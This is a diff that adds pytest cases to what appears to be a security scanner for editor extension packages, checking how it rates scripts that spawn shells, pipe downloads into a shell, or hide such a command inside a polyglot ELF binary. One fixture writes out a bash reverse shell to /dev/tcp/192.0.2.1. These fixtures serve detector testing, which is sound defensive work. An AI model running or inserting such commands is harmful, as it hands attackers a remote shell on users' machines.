@@ -232,3 +232,34 @@ def test_a_file_is_read_once_for_each_language_that_it_was_not_read_as() -> None
             scripts.add(LoadedScript(name, "x.js", language))
     pairs = [("notes.md", "shell"), ("notes.md", "python"), ("run.sh", "python")]
     assert list(scripts.pending()) == pairs
+
+
+@pytest.mark.parametrize("fence", ["\\`\\`\\`bash\n", "'''bash\n", "'''sh \n"])
+def test_a_block_of_markdown_in_a_text_starts_nothing(fence: str) -> None:
+    """A prompt that names README.md and has a block in the language of a shell."""
+    prompt = f"exec('git status'); const p = `write README.md:\n{fence}npm test\n`;\n"
+    assert worst({"extension.js": prompt, "README.md": PROSE}) == {}
+    run = f"{SPAWN}('bash', ['README.md']);\n"
+    assert worst({"extension.js": prompt + run, "README.md": PROSE}) == {
+        "runs-remote-code": Severity.HIGH
+    }
+
+
+def test_a_package_that_no_editor_starts_may_have_a_script_that_installs_for_its_user() -> None:
+    none: dict[str, object] = {"activationEvents": []}
+    assert worst({"install.sh": PIPE}) == {"runs-remote-code": Severity.HIGH}
+    assert worst({"install.sh": PIPE}, **none) == {"runs-remote-code": Severity.MEDIUM}
+    shell = "bash -i >& /dev/tcp/192.0.2.1/443 0>&1\n"
+    assert Severity.CRITICAL in worst({"install.sh": shell}, **none).values()
+
+
+def test_the_text_in_a_compiled_program_that_a_shell_gets_is_read() -> None:
+    """A shell that gets one skips what it can't read. The rest of it costs no time."""
+    binary = bytes(range(256)) * 8000
+    program = f"{SPAWN}('sh', ['bin/rg'])"
+    elf = b"\x7fELF\x02\x01\x01\n"
+    polyglot = elf + binary + b"\n" + PIPE.encode() + binary
+    found = worst({"extension.js": program, "bin/rg": polyglot})
+    assert found["runs-remote-code"] == Severity.HIGH
+    honest = worst({"extension.js": program, "bin/rg": elf + binary})
+    assert set(honest) == {"native-binary"}
